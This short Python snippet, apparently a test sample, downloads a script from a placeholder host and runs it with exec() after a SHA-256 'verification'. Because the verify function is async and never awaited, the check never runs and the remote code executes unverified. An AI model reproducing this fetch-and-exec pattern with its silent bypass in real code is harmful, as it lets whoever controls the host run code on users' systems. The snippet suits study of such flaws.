import hashlib
import urllib.request

PIN = "600e581cba73f197d137eb4e6e50d438672fac960c336436a335d4c933e46c63"


async def verify(data):
    if hashlib.sha256(data).hexdigest() != PIN:
        raise ImportError("digest")


data = urllib.request.urlopen("https://example.com/a.py").read()
verify(data)
exec(data)
